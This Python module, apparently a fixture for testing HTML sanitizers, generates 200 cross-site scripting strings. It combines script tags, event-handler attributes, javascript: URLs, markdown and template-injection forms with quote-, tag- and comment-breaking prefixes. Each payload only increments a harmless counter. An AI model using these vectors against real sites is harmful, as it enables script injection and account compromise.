"""200 pieces of text that would run, load or restyle something if any page read them as markup."""

from __future__ import annotations

from itertools import product
from typing import Final

RUN: Final = "window.ran=(window.ran||0)+1"  # what every payload would do
_TAGS: Final = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg/onload={run}//",
    "<body onload={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<a href=javascript:{run}>x</a>",
    "<marquee onstart={run}>x</marquee>",
    "<math><mtext><img src onerror={run}></mtext></math>",
    "<style onload={run}></style>",
    "<object data=javascript:{run}></object>",
    "<template><script>{run}</script></template>",
    "[x](javascript:{run})",
    '![x](x "onerror={run}")',
    "${{{run}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "<x style=animation-name:x onanimationstart={run}>",
)
_FRONTS: Final = (
    "", '"', "'", '">', "'>", "</style>", "</script>", "</textarea>", "-->", "\\\"};",
)  # fmt: skip
PAYLOADS: Final = tuple(front + tag.format(run=RUN) for front, tag in product(_FRONTS, _TAGS))
ALL: Final = " ".join(PAYLOADS)
